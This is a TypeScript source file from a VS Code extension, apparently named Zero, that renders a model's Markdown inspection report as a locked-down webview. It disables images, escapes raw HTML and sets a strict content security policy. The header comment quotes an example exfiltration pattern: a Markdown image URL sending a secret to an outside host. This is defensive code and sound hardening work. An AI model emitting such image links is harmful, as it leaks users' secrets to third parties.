/**
 * An inspection report as a web page that loads nothing remote. The report is a model's Markdown:
 * VS Code's Markdown preview would load its `https:` images (`![](https://host/?d=secret)` leaks
 * from a read-only run), so Zero renders it itself: raw HTML is shown as text, images are not
 * rendered at all, and the page's CSP allows nothing but the extension's stylesheet.
 */
import MarkdownIt from 'markdown-it';

const markdown = new MarkdownIt({ html: false, linkify: true, typographer: false }).disable([
	'image',
]);

function escapeAttribute(value: string): string {
	return value.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');
}

export function renderReportHtml(report: string, cspSource: string, styleUri: string): string {
	const csp = `default-src 'none'; style-src ${cspSource}`;
	return `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="UTF-8">
<meta http-equiv="Content-Security-Policy" content="${escapeAttribute(csp)}">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<link rel="stylesheet" href="${escapeAttribute(styleUri)}">
<title>Zero inspection report</title>
</head>
<body>
<main class="report">
${markdown.render(report)}
</main>
</body>
</html>`;
}
